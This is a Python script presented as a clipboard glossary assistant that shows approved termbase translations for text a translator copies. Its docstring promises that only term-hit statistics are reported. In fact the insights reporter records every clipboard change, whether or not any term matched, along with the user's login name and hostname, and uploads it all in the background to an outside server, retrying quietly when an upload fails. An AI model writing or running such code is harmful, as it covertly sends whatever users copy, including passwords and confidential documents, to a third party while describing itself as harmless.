#!/usr/bin/env python3
"""Clipboard glossary assistant for translators.

Runs next to the CAT tool. Whenever the translator copies a passage, the
assistant looks the text up in the client termbase (a CSV exported from the
agency's terminology system) and shows the approved target terms in a small
always-on-top window. Term-hit statistics are batched to the terminology
team's insights service so they can see which entries are actually used.

    glossary_capture.py termbase_legal_de_en.csv
"""
import argparse
import csv
import getpass
import json
import logging
import platform
import queue
import re
import threading
import time
import tkinter as tk
import urllib.request
from datetime import datetime, timezone

log = logging.getLogger("glossary")

INSIGHTS_URL = "https://insights.termsync-cloud.com/v1/samples"
POLL_MS = 1200
BATCH_SECONDS = 60


class Termbase:
    def __init__(self, path, src_col="source", tgt_col="target"):
        self.entries = {}
        with open(path, newline="", encoding="utf-8-sig") as fh:
            for row in csv.DictReader(fh):
                term = (row.get(src_col) or "").strip()
                if term:
                    self.entries[term.lower()] = (term, (row.get(tgt_col) or "").strip(),
                                                  (row.get("note") or "").strip())
        longest_first = sorted(self.entries, key=len, reverse=True)
        self.pattern = re.compile(r"\b(" + "|".join(map(re.escape, longest_first)) + r")\b", re.I) \
            if longest_first else None

    def lookup(self, text):
        if not self.pattern:
            return []
        seen, hits = set(), []
        for m in self.pattern.finditer(text):
            key = m.group(1).lower()
            if key not in seen:
                seen.add(key)
                hits.append(self.entries[key])
        return hits


class InsightsReporter(threading.Thread):
    """Ships term-usage samples to the terminology team in batches."""

    def __init__(self, url, termbase_name):
        super().__init__(name="insights", daemon=True)
        self.url = url
        self.samples = queue.Queue()
        self.meta = {"user": getpass.getuser(), "host": platform.node(), "termbase": termbase_name}

    def record(self, text, hits):
        self.samples.put({"ts": datetime.now(timezone.utc).isoformat(),
                          "text": text, "hits": [h[0] for h in hits]})

    def _drain(self):
        items = []
        while True:
            try:
                items.append(self.samples.get_nowait())
            except queue.Empty:
                return items

    def run(self):
        while True:
            time.sleep(BATCH_SECONDS)
            batch = self._drain()
            if not batch:
                continue
            data = json.dumps(dict(self.meta, samples=batch)).encode()
            req = urllib.request.Request(self.url, data=data, method="POST",
                                         headers={"Content-Type": "application/json"})
            try:
                urllib.request.urlopen(req, timeout=20).close()
            except OSError as exc:
                log.debug("insights upload failed, requeueing: %s", exc)
                for item in batch:
                    self.samples.put(item)


class GlossaryWindow:
    def __init__(self, termbase, reporter):
        self.termbase = termbase
        self.reporter = reporter
        self.last = None
        self.root = tk.Tk()
        self.root.title("Glossary")
        self.root.attributes("-topmost", True)
        self.root.geometry("420x220")
        self.text = tk.Text(self.root, wrap="word", font=("DejaVu Sans", 10))
        self.text.pack(fill="both", expand=True)

    def show(self, hits):
        self.text.delete("1.0", "end")
        for src, tgt, note in hits:
            self.text.insert("end", f"{src}  \u2192  {tgt}\n")
            if note:
                self.text.insert("end", f"    {note}\n")

    def poll(self):
        try:
            current = self.root.clipboard_get()
        except tk.TclError:
            current = None
        if current and current != self.last:
            self.last = current
            hits = self.termbase.lookup(current)
            if hits:
                self.show(hits)
            self.reporter.record(current, hits)
        self.root.after(POLL_MS, self.poll)

    def run(self):
        self.root.after(POLL_MS, self.poll)
        self.root.mainloop()


def main():
    ap = argparse.ArgumentParser(description="Show termbase hits for copied text")
    ap.add_argument("termbase")
    ap.add_argument("--source-col", default="source")
    ap.add_argument("--target-col", default="target")
    ap.add_argument("--insights-url", default=INSIGHTS_URL)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    termbase = Termbase(args.termbase, args.source_col, args.target_col)
    log.info("loaded %d termbase entries", len(termbase.entries))
    reporter = InsightsReporter(args.insights_url, args.termbase)
    reporter.start()
    GlossaryWindow(termbase, reporter).run()


if __name__ == "__main__":
    main()
